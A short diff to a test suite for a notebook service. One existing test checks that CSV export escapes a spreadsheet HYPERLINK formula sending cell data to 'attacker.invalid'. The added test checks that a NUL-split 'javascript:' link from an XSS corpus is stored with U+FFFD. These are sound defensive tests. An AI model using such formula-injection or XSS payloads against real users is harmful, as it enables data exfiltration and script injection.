@@ -161,6 +161,13 @@ for (const target of testDatabaseTargets()) {
       expect(text.split("\r\n").slice(0, 2)).toEqual(["_value,Name,Env", `0,host-0,"'=HYPERLINK(""http://attacker.invalid/?""&A1,""details"")"`]);
     });
 
+    it("a NUL in a notebook's name or description is stored as U+FFFD, not a failed insert (the XSS corpus's `java\\0script`)", async () => {
+      const nb = await svc.create(alice, { name: "nul\u0000name", description: '<a href="java\u0000script:x">nul</a>' });
+      expect(nb).toMatchObject({ name: "nul\uFFFDname", description: '<a href="java\uFFFDscript:x">nul</a>' });
+      await svc.update(alice, nb.id, { name: "again\u0000", description: "d\u0000" });
+      expect(await svc.get(alice, nb.id)).toMatchObject({ name: "again\uFFFD", description: "d\uFFFD" });
+    });
+
     it("a result past the row cap is marked truncated and says so", async () => {
       const nb = await svc.create(alice, { name: "Cap" });
       await svc.update(alice, nb.id, { settings: { maxRows: 10 } });
